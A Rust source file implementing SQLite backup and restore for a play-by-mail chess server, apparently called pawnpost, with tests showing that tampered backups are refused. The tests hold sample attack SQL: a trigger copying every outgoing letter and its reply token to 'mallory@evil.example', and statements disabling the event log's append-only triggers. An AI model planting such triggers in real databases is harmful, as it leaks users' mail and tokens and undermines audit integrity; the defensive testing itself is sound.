//! Copies of the database through SQLite's online backup API. `pawnpost backup` takes
//! one consistent snapshot while the daemon and any number of deliveries go on
//! writing; `pawnpost restore` checks a copy (its schema exactly the one its version
//! defines, every game replayed) and puts it in the database's place.
//! Neither leaves a half-written file where a database is expected: each writes a
//! temporary file beside its target, syncs it, and renames it into place.

use crate::private_files::sibling;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rusqlite::backup::{Backup, StepResult};
use rusqlite::{Connection, OpenFlags};

use super::{DatabaseLock, MIGRATIONS, Store, StoreError, schema};
use crate::private_files;

/// How long a backup or restore retries while SQLite reports the source busy (a
/// checkpoint or a WAL recovery of another connection in progress).
const BUSY_PATIENCE: Duration = Duration::from_secs(30);

/// What `backup_to` wrote.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BackupCopy {
    pub path: PathBuf,
    /// The size of the copy in bytes.
    pub bytes: u64,
    pub schema_version: u32,
    /// The games in the copy.
    pub games: u64,
}

impl Store {
    /// Copies this database into the file `to` (replacing it) in one step of SQLite's
    /// online backup API: a read transaction on a database in WAL mode, so the copy is
    /// one consistent snapshot while writers go on. The copy is written beside `to`,
    /// switched out of WAL mode (one self-contained file), checked with SQLite's
    /// `quick_check`, synced, made private (0600) and renamed to `to`.
    pub fn backup_to(&self, to: &Path) -> Result<BackupCopy, StoreError> {
        let file_error = |source| StoreError::File {
            path: to.display().to_string(),
            source,
        };
        let temp = Temporary::beside(to).map_err(file_error)?;
        {
            let mut copy = Connection::open(temp.path())?;
            copy_database(&self.conn, &mut copy, to)?;
            finish_copy(&copy, to)?;
        }
        temp.sync().map_err(file_error)?;
        let copy = BackupCopy {
            path: to.to_owned(),
            bytes: std::fs::metadata(temp.path()).map_err(file_error)?.len(),
            schema_version: self.schema_version()?,
            games: count_games(&self.conn)?,
        };
        temp.rename_to(to).map_err(file_error)?;
        Ok(copy)
    }
}

/// A backup checked and copied beside the database, ready to take its place
/// ([`PreparedRestore::commit`]); dropped without a commit, it leaves nothing behind.
#[derive(Debug)]
pub struct PreparedRestore {
    temp: Temporary,
    database: PathBuf,
    pub schema_version: u32,
    pub games: u64,
}

/// What a committed restore did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Restored {
    pub database: PathBuf,
    /// Where the database that was replaced is kept, if there was one.
    pub replaced: Option<PathBuf>,
    pub schema_version: u32,
    pub games: u64,
}

impl PreparedRestore {
    /// Copies the backup `backup` into a temporary file beside `database`, brings its
    /// schema up to date and replays every game through the rules core (`check-db`).
    /// `lock` must be the exclusive lock of `database` ([`DatabaseLock::exclusive`]):
    /// no process has the database open, and none opens it until the lock is dropped.
    pub fn prepare(
        lock: &DatabaseLock,
        backup: &Path,
        database: &Path,
    ) -> Result<PreparedRestore, StoreError> {
        if !lock.is_exclusive() || lock.path() != DatabaseLock::path_of(database) {
            return Err(StoreError::Backup {
                path: database.display().to_string(),
                what: "a restore needs the exclusive lock of this database".to_owned(),
            });
        }
        let named = |what: String| StoreError::Backup {
            path: backup.display().to_string(),
            what,
        };
        if same_file(backup, database) {
            return Err(named(
                "is the database itself; name a backup made by `pawnpost backup`".to_owned(),
            ));
        }
        if !backup.is_file() {
            return Err(named("no such backup file".to_owned()));
        }
        // A backup in WAL mode (a plain copy of a live database) gets `-wal` and `-shm`
        // files from a reader; those this restore made go again when it is done.
        let _sidecars = ReaderSidecars::of(backup);
        let source = Connection::open_with_flags(
            backup,
            OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
        )
        .map_err(|e| named(format!("cannot open it as a database: {e}")))?;
        let quick = quick_check(&source).map_err(|e| named(format!("is no database: {e}")))?;
        if let Some(problem) = quick {
            return Err(named(format!(
                "is damaged (SQLite's quick_check: {problem})"
            )));
        }
        let found: u32 = source.pragma_query_value(None, "user_version", |r| r.get(0))?;
        let known = MIGRATIONS.len() as u32;
        if found > known {
            return Err(named(format!(
                "has schema version {found}, newer than this pawnpost knows ({known}); restore it with the pawnpost that wrote it"
            )));
        }
        let is_pawnpost: bool = source.query_row(
            "SELECT count(*) = 1 FROM sqlite_schema WHERE type = 'table' AND name = 'games'",
            [],
            |r| r.get(0),
        )?;
        if found == 0 || !is_pawnpost {
            return Err(named(
                "is not a pawnpost database (it has no games table)".to_owned(),
            ));
        }
        // Held against its own version before anything is copied or migrated: a
        // trigger or view the backup brings would otherwise run in the daemon.
        let differences = schema::differences(&source, found)?;
        if !differences.is_empty() {
            let list: Vec<String> = differences.iter().map(ToString::to_string).collect();
            return Err(named(format!(
                "holds a schema pawnpost did not make, so it is not restored: {}",
                list.join("; ")
            )));
        }

        let file_error = |source| StoreError::File {
            path: database.display().to_string(),
            source,
        };
        let temp = Temporary::beside(database).map_err(file_error)?;
        {
            let mut copy = Connection::open(temp.path())?;
            copy_database(&source, &mut copy, database)?;
        }
        drop(source);
        // The copy as the daemon will see it: migrated, every game replayed.
        let (schema_version, games) = {
            let store = Store::open_unlocked(temp.path())?;
            let problems = store.check_db()?;
            if !problems.is_empty() {
                let list: Vec<String> = problems.iter().map(ToString::to_string).collect();
                return Err(named(format!(
                    "does not pass check-db: {}",
                    list.join("; ")
                )));
            }
            // One self-contained file again: no WAL beside the temporary name.
            finish_copy(&store.conn, database)?;
            (store.schema_version()?, count_games(&store.conn)?)
        };
        temp.sync().map_err(file_error)?;
        Ok(PreparedRestore {
            temp,
            database: database.to_owned(),
            schema_version,
            games,
        })
    }

    /// Puts the checked copy in the database's place. The database it replaces, with
    /// its WAL checkpointed into it first, stays as `<database>.before-restore`; the
    /// stale `-wal` and `-shm` files go (SQLite would replay an old WAL into the new
    /// file). The rename is the one moment of change: before it the old database is
    /// whole, after it the new one.
    pub fn commit(self) -> Result<Restored, StoreError> {
        let database = self.database.clone();
        let file_error = |path: &Path, source| StoreError::File {
            path: path.display().to_string(),
            source,
        };
        let replaced = if database.exists() {
            checkpoint(&database);
            let kept = sibling(&database, ".before-restore");
            remove_if_present(&kept).map_err(|e| file_error(&kept, e))?;
            std::fs::hard_link(&database, &kept).map_err(|e| file_error(&kept, e))?;
            Some(kept)
        } else {
            None
        };
        for suffix in ["-wal", "-shm"] {
            let stale = sibling(&database, suffix);
            remove_if_present(&stale).map_err(|e| file_error(&stale, e))?;
        }
        let (schema_version, games) = (self.schema_version, self.games);
        self.temp
            .rename_to(&database)
            .map_err(|e| file_error(&database, e))?;
        Ok(Restored {
            database,
            replaced,
            schema_version,
            games,
        })
    }
}

/// Copies every page of `source` into `copy` in one step, retrying while SQLite says
/// busy. One step holds one read transaction: the copy is one snapshot, which a backup
/// in several steps would not be when another process writes between them (SQLite
/// then starts over).
fn copy_database(
    source: &Connection,
    copy: &mut Connection,
    named: &Path,
) -> Result<(), StoreError> {
    let backup = Backup::new(source, copy)?;
    let started = Instant::now();
    loop {
        match backup.step(-1)? {
            StepResult::Done => return Ok(()),
            StepResult::More => {}
            StepResult::Busy | StepResult::Locked if started.elapsed() < BUSY_PATIENCE => {
                std::thread::sleep(Duration::from_millis(50));
            }
            _ => {
                return Err(StoreError::Backup {
                    path: named.display().to_string(),
                    what: format!(
                        "the database stayed busy for {} s; try again",
                        BUSY_PATIENCE.as_secs()
                    ),
                });
            }
        }
    }
}

/// Leaves the copy one self-contained file (rollback journal instead of WAL, so no
/// `-wal` or `-shm` file belongs to it) and checks it with `quick_check`.
fn finish_copy(copy: &Connection, named: &Path) -> Result<(), StoreError> {
    let mode: String = copy.query_row("PRAGMA journal_mode = DELETE", [], |r| r.get(0))?;
    if !mode.eq_ignore_ascii_case("delete") {
        return Err(StoreError::Backup {
            path: named.display().to_string(),
            what: format!("the copy stayed in journal mode {mode}"),
        });
    }
    if let Some(problem) = quick_check(copy)? {
        return Err(StoreError::Backup {
            path: named.display().to_string(),
            what: format!("the copy is damaged (SQLite's quick_check: {problem})"),
        });
    }
    Ok(())
}

/// SQLite's `quick_check`: `None` when all is well, else its first findings.
fn quick_check(conn: &Connection) -> Result<Option<String>, rusqlite::Error> {
    let mut stmt = conn.prepare("PRAGMA quick_check(5)")?;
    let lines: Vec<String> = stmt
        .query_map([], |r| r.get(0))?
        .collect::<Result<_, _>>()?;
    Ok((lines != ["ok"]).then(|| lines.join("; ")))
}

fn count_games(conn: &Connection) -> Result<u64, StoreError> {
    Ok(conn.query_row("SELECT count(*) FROM games", [], |r| r.get(0))?)
}

/// Moves what the database's WAL holds into the database file, so the file kept as
/// `.before-restore` is whole. A database too damaged to open is kept as it is.
fn checkpoint(database: &Path) {
    if let Ok(conn) = Connection::open_with_flags(database, OpenFlags::SQLITE_OPEN_READ_WRITE) {
        let _ = conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()));
    }
}

fn remove_if_present(path: &Path) -> std::io::Result<()> {
    match std::fs::remove_file(path) {
        Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e),
        _ => Ok(()),
    }
}

/// Whether `a` and `b` name one existing file.
fn same_file(a: &Path, b: &Path) -> bool {
    match (a.canonicalize(), b.canonicalize()) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    }
}

/// The `-wal` and `-shm` files of a database that did not exist before a read-only
/// look at it: removed when this is dropped (after the connection), the WAL only when
/// it is empty, so nothing anyone wrote is lost.
struct ReaderSidecars {
    made: Vec<PathBuf>,
}

impl ReaderSidecars {
    fn of(database: &Path) -> ReaderSidecars {
        ReaderSidecars {
            made: ["-wal", "-shm"]
                .into_iter()
                .map(|suffix| sibling(database, suffix))
                .filter(|path| !path.exists())
                .collect(),
        }
    }
}

impl Drop for ReaderSidecars {
    fn drop(&mut self) {
        for path in &self.made {
            let empty_or_index = !path.to_string_lossy().ends_with("-wal")
                || std::fs::metadata(path).is_ok_and(|m| m.len() == 0);
            if empty_or_index {
                let _ = std::fs::remove_file(path);
            }
        }
    }
}

/// A private file beside its destination, removed unless renamed into place.
#[derive(Debug)]
struct Temporary {
    path: PathBuf,
    renamed: bool,
}

impl Temporary {
    fn beside(destination: &Path) -> std::io::Result<Temporary> {
        let path = private_files::temporary_beside(destination);
        private_files::private_file(&path)?;
        Ok(Temporary {
            path,
            renamed: false,
        })
    }

    fn path(&self) -> &Path {
        &self.path
    }

    fn sync(&self) -> std::io::Result<()> {
        std::fs::File::open(&self.path)?.sync_all()
    }

    /// Renames the file to `destination` and syncs the directory, so the new name
    /// survives a crash.
    fn rename_to(mut self, destination: &Path) -> std::io::Result<()> {
        std::fs::rename(&self.path, destination)?;
        self.renamed = true;
        private_files::sync_parent(destination)
    }
}

impl Drop for Temporary {
    fn drop(&mut self) {
        if !self.renamed {
            for suffix in ["", "-journal", "-wal", "-shm"] {
                let _ = std::fs::remove_file(sibling(&self.path, suffix));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::Command;
    use crate::game::Game;
    use crate::rules::Color;

    const NOW: i64 = 1_800_000_000;

    fn store_with_games(path: &Path, games: usize) -> Store {
        let mut store = Store::open(path).unwrap();
        store
            .transaction(|tx| {
                for i in 0..games {
                    let mut game = Game::new(
                        &format!("w{i}@example.org"),
                        &format!("b{i}@example.org"),
                        30 * 86_400,
                        NOW,
                    );
                    tx.insert_game(&mut game, NOW)?;
                }
                Ok::<_, StoreError>(())
            })
            .unwrap();
        store
    }

    fn files_in(dir: &Path) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }

    #[test]
    fn a_backup_is_one_private_file_that_restores_in_place_of_the_database() {
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("live/pawnpost.sqlite3");
        let store = store_with_games(&database, 3);
        let backups = dir.path().join("backups");
        std::fs::create_dir(&backups).unwrap();
        let to = backups.join("copy.sqlite3");
        let copy = store.backup_to(&to).unwrap();
        assert_eq!(copy.games, 3);
        assert_eq!(copy.schema_version, MIGRATIONS.len() as u32);
        assert_eq!(copy.bytes, std::fs::metadata(&to).unwrap().len());
        // No journal, WAL or temporary file beside it.
        assert_eq!(files_in(&backups), ["copy.sqlite3"]);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&to).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600);
        }

        // The live database moves on; the restore brings back the three games.
        drop(store);
        let more = store_with_games(&database, 2);
        assert_eq!(count_games(&more.conn).unwrap(), 5);
        assert!(matches!(
            DatabaseLock::exclusive(&database),
            Err(StoreError::InUse { .. })
        ));
        drop(more);
        let lock = DatabaseLock::exclusive(&database).unwrap();
        let prepared = PreparedRestore::prepare(&lock, &to, &database).unwrap();
        assert_eq!(prepared.games, 3);
        let restored = prepared.commit().unwrap();
        drop(lock);
        let kept = restored.replaced.clone().unwrap();
        assert_eq!(
            kept,
            dir.path().join("live/pawnpost.sqlite3.before-restore")
        );
        let store = Store::open(&database).unwrap();
        assert_eq!(count_games(&store.conn).unwrap(), 3);
        assert!(store.check_db().unwrap().is_empty());
        let before = Store::open(&kept).unwrap();
        assert_eq!(
            count_games(&before.conn).unwrap(),
            5,
            "the replaced one is kept whole"
        );
    }

    #[test]
    fn a_restore_refuses_what_is_no_pawnpost_backup_and_changes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("pawnpost.sqlite3");
        drop(store_with_games(&database, 1));
        let before = files_in(dir.path());
        let lock = DatabaseLock::exclusive(&database).unwrap();
        let refuse = |backup: &Path, expected: &str| {
            let error = PreparedRestore::prepare(&lock, backup, &database).unwrap_err();
            let text = error.to_string();
            assert!(text.contains(expected), "{text}");
            assert!(
                text.contains(&backup.display().to_string()),
                "names the file: {text}"
            );
        };
        refuse(&dir.path().join("missing"), "no such backup file");
        refuse(&database, "is the database itself");

        let text = dir.path().join("notes.txt");
        std::fs::write(&text, "not a database at all, but long enough to have a header ....................................................................................").unwrap();
        refuse(&text, "no database");

        let empty = dir.path().join("empty.sqlite3");
        Connection::open(&empty)
            .unwrap()
            .execute_batch("CREATE TABLE t (x)")
            .unwrap();
        refuse(&empty, "not a pawnpost database");

        let newer = dir.path().join("newer.sqlite3");
        drop(store_with_games(&newer, 1));
        Connection::open(&newer)
            .unwrap()
            .pragma_update(None, "user_version", 999)
            .unwrap();
        refuse(&newer, "schema version 999");

        drop(lock);
        for created in [
            "notes.txt",
            "empty.sqlite3",
            "newer.sqlite3",
            "newer.sqlite3.lock",
        ] {
            std::fs::remove_file(dir.path().join(created)).unwrap();
        }
        assert_eq!(files_in(dir.path()), before, "no temporary file left");
        let store = Store::open(&database).unwrap();
        assert_eq!(count_games(&store.conn).unwrap(), 1);
    }

    /// The trigger of the attack: every letter, with its reader's reply token, copied to a
    /// stranger as it is queued (its bytes are inserted after its outbox row).
    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox_raw \
        WHEN (SELECT recipient FROM outbox WHERE id = NEW.id) <> 'mallory@evil.example' BEGIN \
        INSERT INTO outbox (recipient, subject, message_id, next_attempt_at, created_at) \
        SELECT 'mallory@evil.example', subject, message_id || '.copy', next_attempt_at, \
        created_at FROM outbox WHERE id = NEW.id; \
        INSERT INTO outbox_raw (id, raw) VALUES (last_insert_rowid(), NEW.raw); END";

    /// The same attack on a database older than migration 22, whose outbox rows held
    /// their bytes.
    const OUTBOX_COPY_BEFORE_22: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
        WHEN NEW.recipient <> 'mallory@evil.example' BEGIN \
        INSERT INTO outbox (recipient, subject, message_id, raw, next_attempt_at, created_at) \
        VALUES ('mallory@evil.example', NEW.subject, NEW.message_id || '.copy', NEW.raw, \
        NEW.next_attempt_at, NEW.created_at); END";

    /// A backup of a database of one game, changed by `sql` afterwards (as an attacker
    /// with the backup file in hand would), beside a live database of two games.
    fn tampered_backup(dir: &Path, sql: &str) -> (PathBuf, PathBuf) {
        let database = dir.join("live/pawnpost.sqlite3");
        drop(store_with_games(&database, 2));
        let backup = dir.join("tampered.sqlite3");
        store_with_games(&dir.join("source.sqlite3"), 1)
            .backup_to(&backup)
            .unwrap();
        Connection::open(&backup)
            .unwrap()
            .execute_batch(sql)
            .unwrap();
        (database, backup)
    }

    /// A restore of `backup` over `database` is refused with `expected` in its message,
    /// and the live database is left as it was: its files, its two games, its schema.
    fn refused_and_nothing_changed(database: &Path, backup: &Path, expected: &str) {
        let live_dir = database.parent().unwrap();
        let before = files_in(live_dir);
        let lock = DatabaseLock::exclusive(database).unwrap();
        let error = PreparedRestore::prepare(&lock, backup, database).unwrap_err();
        let text = error.to_string();
        assert!(text.contains(expected), "{text}");
        assert!(text.contains("tampered.sqlite3"), "names the file: {text}");
        drop(lock);
        assert_eq!(
            files_in(live_dir),
            before,
            "nothing written beside the database"
        );
        let store = Store::open(database).unwrap();
        assert_eq!(count_games(&store.conn).unwrap(), 2);
        assert!(store.check_db().unwrap().is_empty(), "its schema untouched");
    }

    #[test]
    fn a_restore_refuses_a_backup_with_a_trigger_added_and_names_it() {
        let dir = tempfile::tempdir().unwrap();
        let (database, backup) = tampered_backup(dir.path(), OUTBOX_COPY);
        let version = MIGRATIONS.len();
        refused_and_nothing_changed(
            &database,
            &backup,
            &format!("trigger outbox_copy is not part of schema version {version}"),
        );
    }

    #[test]
    fn a_restore_refuses_an_extra_index_view_or_table_and_a_changed_or_missing_one() {
        let version = MIGRATIONS.len();
        let cases = [
            (
                "CREATE INDEX outbox_bytes ON outbox_raw (raw)",
                format!("index outbox_bytes is not part of schema version {version}"),
            ),
            (
                "CREATE VIEW letters AS SELECT recipient, raw FROM outbox JOIN outbox_raw USING (id)",
                format!("view letters is not part of schema version {version}"),
            ),
            (
                "CREATE TABLE stolen (raw BLOB)",
                format!("table stolen is not part of schema version {version}"),
            ),
            (
                "DROP TRIGGER game_events_append_only_delete",
                format!(
                    "trigger game_events_append_only_delete of schema version {version} is missing"
                ),
            ),
            (
                // The name the schema defines, another body: the event log no longer
                // refuses a change.
                "DROP TRIGGER game_events_append_only_update; \
                 CREATE TRIGGER game_events_append_only_update BEFORE UPDATE ON game_events \
                 BEGIN SELECT 1; END",
                format!(
                    "trigger game_events_append_only_update is not defined as schema version {version} defines it"
                ),
            ),
        ];
        for (sql, expected) in cases {
            let dir = tempfile::tempdir().unwrap();
            let (database, backup) = tampered_backup(dir.path(), sql);
            refused_and_nothing_changed(&database, &backup, &expected);
        }
    }

    /// A database at `version` as the pawnpost of that version left it, with a player.
    fn database_at_version(path: &Path, version: usize) {
        let conn = Connection::open(path).unwrap();
        for sql in &MIGRATIONS[..version] {
            conn.execute_batch(sql).unwrap();
        }
        conn.pragma_update(None, "user_version", version as u32)
            .unwrap();
        conn.execute(
            "INSERT INTO players (address, created_at) VALUES ('anna@example.org', 1)",
            [],
        )
        .unwrap();
    }

    #[test]
    fn a_backup_of_an_older_version_is_held_against_that_version_and_brought_forward() {
        const OLDER: usize = 10;
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("live/pawnpost.sqlite3");
        drop(store_with_games(&database, 2));
        let backup = dir.path().join("old.sqlite3");
        database_at_version(&backup, OLDER);

        // Against the latest schema it would lack every later table and column; held
        // against its own, it is whole, and the restore migrates it.
        let lock = DatabaseLock::exclusive(&database).unwrap();
        let prepared = PreparedRestore::prepare(&lock, &backup, &database).unwrap();
        assert_eq!(prepared.schema_version, MIGRATIONS.len() as u32);
        prepared.commit().unwrap();
        drop(lock);
        let store = Store::open(&database).unwrap();
        assert_eq!(count_games(&store.conn).unwrap(), 0);
        assert!(store.check_db().unwrap().is_empty());
        drop(store);

        // The same older backup with the trigger: refused, naming its own version.
        let tampered = dir.path().join("tampered.sqlite3");
        database_at_version(&tampered, OLDER);
        Connection::open(&tampered)
            .unwrap()
            .execute_batch(OUTBOX_COPY_BEFORE_22)
            .unwrap();
        drop(store_with_games(&database, 2));
        refused_and_nothing_changed(
            &database,
            &tampered,
            &format!("trigger outbox_copy is not part of schema version {OLDER}"),
        );
    }

    #[test]
    fn check_db_names_a_trigger_added_to_the_live_database() {
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("db");
        let store = store_with_games(&database, 1);
        assert!(store.check_db().unwrap().is_empty());
        store.conn.execute_batch(OUTBOX_COPY).unwrap();
        let problems: Vec<String> = store
            .check_db()
            .unwrap()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(
            problems,
            [format!(
                "trigger outbox_copy is not part of schema version {}",
                MIGRATIONS.len()
            )]
        );
    }

    #[test]
    fn a_restore_needs_the_exclusive_lock_of_its_database() {
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("db");
        let backup = dir.path().join("backup");
        store_with_games(&database, 1).backup_to(&backup).unwrap();
        let shared = DatabaseLock::shared(&database).unwrap();
        assert!(PreparedRestore::prepare(&shared, &backup, &database).is_err());
        drop(shared);
        let other = DatabaseLock::exclusive(&dir.path().join("other")).unwrap();
        assert!(PreparedRestore::prepare(&other, &backup, &database).is_err());
    }

    /// A backup taken while another thread commits moves is a snapshot of one moment:
    /// every copy passes check-db.
    #[test]
    fn backups_taken_while_games_are_written_are_consistent() {
        let dir = tempfile::tempdir().unwrap();
        let database = dir.path().join("db");
        drop(store_with_games(&database, 20));
        let writer = {
            let database = database.clone();
            std::thread::spawn(move || {
                let mut store = Store::open(&database).unwrap();
                let plies = [
                    (Color::White, "Nf3"),
                    (Color::Black, "Nc6"),
                    (Color::White, "Ng1"),
                ];
                for (side, san) in plies {
                    for id in 1..=20 {
                        store
                            .transaction(|tx| {
                                let mut game = tx.load_game(id)?;
                                let by = game.player(side).to_owned();
                                let played = [Command::Move(san.parse().unwrap())];
                                let events = game.apply(&by, &played, None, NOW);
                                tx.save_game(&game, &events, NOW)?;
                                Ok::<_, StoreError>(())
                            })
                            .unwrap();
                    }
                }
            })
        };
        let store = Store::open(&database).unwrap();
        let mut copies = 0;
        while !writer.is_finished() || copies == 0 {
            let to = dir.path().join(format!("copy{copies}"));
            store.backup_to(&to).unwrap();
            let copy = Store::open(&to).unwrap();
            assert!(copy.check_db().unwrap().is_empty());
            copies += 1;
        }
        writer.join().unwrap();
    }
}
